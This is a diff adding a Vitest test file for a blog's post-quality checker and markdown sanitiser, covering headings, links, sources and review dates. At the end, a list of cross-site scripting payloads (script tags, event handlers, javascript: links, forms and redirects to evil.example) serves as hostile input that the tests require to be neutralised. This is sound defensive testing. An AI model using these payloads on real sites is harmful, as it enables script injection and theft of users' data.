@@ -1,0 +1,124 @@
+import { expect, test } from 'vitest'
+import { safeHtml } from '#app/platform/text/markdown.server.ts'
+import posts from '#db/samples/posts.json' with { type: 'json' }
+import { builtInText } from './built-in-posts.server.ts'
+import { type Check, checkPost, insideLinks } from './post-checks.ts'
+import { NEW_POST, type PostText, partsOf } from './post-text.ts'
+
+const FACTS = { nowhere: [], unsure: [], origin: 'https://handrail.example', waitsForSecond: false }
+const GOOD: PostText = {
+  ...NEW_POST,
+  title: 'A title',
+  excerpt: 'A summary in one sentence.',
+  author: 'Editorial Team',
+  category: 'Advocacy',
+  imageDescription: 'A hand on a rail.',
+  keyPoints: ['A point.'],
+  body: '## A heading\n\nYou can ask for help. [The federal laws](/know-your-rights) say how.',
+}
+const LEGAL = {
+  ...GOOD,
+  category: 'Legal Updates',
+  sources: [{ title: 'A', url: 'https://a.gov/' }],
+  reviewOn: '2027-05-01',
+}
+const told = (post: Partial<PostText>, facts = {}) =>
+  checkPost({ ...GOOD, ...post }, { ...FACTS, ...facts }).map(
+    ({ blocks, says }: Check) => `${blocks ? 'block' : 'warn'}: ${says}`,
+  )
+
+test('a good post has nothing to mend', () => {
+  expect(told({})).toEqual([])
+  expect(told(LEGAL)).toEqual([])
+})
+
+test.each<[string, Partial<PostText>, string]>([
+  ['no title', { title: '' }, 'block: The post has no title'],
+  ['no summary', { excerpt: '' }, 'block: The post has no summary'],
+  ['no author', { author: '' }, 'block: No author'],
+  ['no category', { category: '' }, 'block: The post has no category'],
+  ['a made-up category', { category: 'News' }, 'block: The post has no category'],
+  ['no text', { body: '' }, 'block: The post has no text'],
+  ['no words for the picture', { imageDescription: '' }, 'block: The picture has no description'],
+  ['no key points', { keyPoints: [] }, 'warn: There are no key points'],
+  ['a first heading', { body: '# Big\n\nText' }, 'block: The title is the only heading'],
+  ['a heading without words', { body: '## \n\nText' }, 'block: A heading has no words'],
+  ['a skipped level', { body: '## A\n\n#### B\n\nText' }, 'block: A heading skips a level'],
+  ['no heading', { body: 'Text' }, 'warn: The text has no headings'],
+  ['a picture', { body: '## A\n\n![](x.png)' }, 'block: The text has a picture'],
+  ['a picture in a table', { body: '## A\n\n| a |\n| --- |\n| ![p](x) |' }, 'block: The text has a picture'],
+  ['“click here”', { body: '## A\n\n- [Click here](/blog)' }, 'block: A link has no words, or words that'],
+  ['a link without words', { body: '## A\n\n[](/blog)' }, 'block: A link has no words, or words that'],
+  ['a script as a link', { body: '## A\n\n[Rules](javascript:alert(1))' }, 'block: A link has no usable'],
+  ['data as a link', { body: '## A\n\n[Rules](data:text/html,x)' }, 'block: A link has no usable'],
+  ['a link beside', { body: '## A\n\n[Rules](other)' }, 'block: A link has no usable'],
+  ['a link to any protocol', { body: '## A\n\n[Rules](//evil.example/)' }, 'block: A link has no usable'],
+  ['a bare address', { body: '## A\n\nhttps://a.example/x' }, 'warn: The address of a link is'],
+  ['no lock', { body: '## A\n\n[The rules](http://a.example/)' }, 'warn: A link begins with http://'],
+  ['HTML', { body: '## A\n\n<b>x</b>' }, 'warn: The text has HTML'],
+  ['too many marks', { body: `## A\n\n${'*'.repeat(700)}` }, 'block: The text has too many marks'],
+  ['no source', { ...LEGAL, sources: [] }, 'block: A post in Legal Updates has no source'],
+  ['no address', { ...LEGAL, sources: [{ title: 'A', url: null }] }, 'block: No source has an address'],
+  ['no review day', { ...LEGAL, reviewOn: '' }, 'block: No day is set'],
+  ['a long sentence', { body: `## A\n\n${'and go '.repeat(14)}.` }, 'warn: One sentence is hard to read'],
+])('%s', (_, post, says) => expect(told(post).join('\n')).toContain(says))
+
+test('links inside that lead nowhere block, with and without our own origin; those we cannot look up are told', () => {
+  const body = '## A\n\n[One](/blog/99) [Two](https://handrail.example/blog/98) [Three](/odd)'
+  expect(insideLinks(body, FACTS.origin)).toEqual(['/blog/99', '/blog/98', '/odd'])
+  const found = checkPost(
+    { ...GOOD, body },
+    { ...FACTS, nowhere: ['/blog/99', '/blog/98'], unsure: ['/odd'] },
+  )
+  expect(found.map(({ blocks, about }) => [blocks, about?.length])).toEqual([
+    [true, 2],
+    [false, 1],
+  ])
+})
+
+test('a second person is asked for', () => {
+  expect(told({}, { waitsForSecond: true }).join()).toContain('block: A second person has not looked')
+})
+
+test.each(posts)(
+  'nothing but the second person, the review day and hard sentences stand against post $id',
+  (sample) => {
+    const blocking = checkPost(builtInText(sample), FACTS).filter(({ blocks }) => blocks)
+    expect(blocking.map(({ says }) => says).filter((says) => !says.startsWith('No day is set'))).toEqual([])
+  },
+)
+
+/** What people have tried on other sites. None of it may become more than words. */
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](javascript&colon;alert(1))',
+  '[a](java\tscript:alert(1))',
+  '[a](vbscript:msgbox(1))',
+  '[a](data:text/html;base64,PHNjcmlwdD4=)',
+  '![a](javascript:alert(1))',
+  '![a](x"onerror="alert(1))',
+  '<a href="javascript:alert(1)">a</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<style>*{display:none}</style>',
+  '<form action="https://evil.example"><input name=p></form>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<javascript:alert(1)>',
+  '`<script>alert(1)</script>`',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '## <img src=x onerror=alert(1)>',
+  '<div style="position:fixed" onclick=alert(1)>x</div>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+]
+test.each(PAYLOADS)('hostile: %s', (payload) => {
+  for (const { text } of partsOf(`## A\n\n${payload}\n\n| ${payload.replaceAll('\n', ' ')} |\n| --- |`)) {
+    const html = safeHtml(text).replaceAll(/<code>.*?<\/code>/gs, '')
+    expect(html).not.toMatch(/<(?:script|img|svg|iframe|style|form|input|math|base|meta|div)\b/i)
+    expect(html).not.toMatch(/<[^>]*\bon\w+\s*=/i)
+    expect(html).not.toMatch(/href="\s*(?:javascript|vbscript|data):/i)
+  }
+})
